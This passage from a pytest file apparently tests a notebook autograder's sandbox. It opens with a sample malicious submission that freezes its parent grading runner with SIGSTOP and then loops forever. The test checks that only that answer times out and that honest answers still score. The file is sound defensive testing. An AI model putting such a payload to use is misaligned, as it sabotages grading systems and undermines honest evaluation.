    "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGSTOP)\nwhile True:\n    pass\n"
)


@pytest.mark.parametrize("prestart", [False, True], ids=["runner_per_student", "prestarted"])
def test_an_answer_that_stops_its_runner_is_timed_out_by_the_grader_alone(tmp_path, prestart):
    path = tmp_path / "submitted.ipynb"
    nbformat.write(notebook_with(STOPS_ITS_RUNNER + honest_layer_norm()), path)
    sandbox = Sandbox()
    if prestart and not sandbox.prestart:
        pytest.skip("pre-started runners need root")
    limits = Limits(wall_seconds=3, processes=64)
    started = time.monotonic()
    with prestarted(sandbox, tmp_path) if prestart else contextlib.nullcontext():
        results = {r.name: r for r in grade_notebook_file(path, ASSIGNMENT, 1, limits, sandbox)}
    took = time.monotonic() - started
    assert results[ATTACKED].score == 0
    assert "did not finish within 3 s (timeout)" in results[ATTACKED].feedback
    assert {n: results[n].score for n in HONEST_ANSWERS} == HONEST_ANSWERS
    # The whole runner's watchdog alone would have waited 3 s × its exercises + 60 s.
    assert took < RUNNER_GRACE_SECONDS
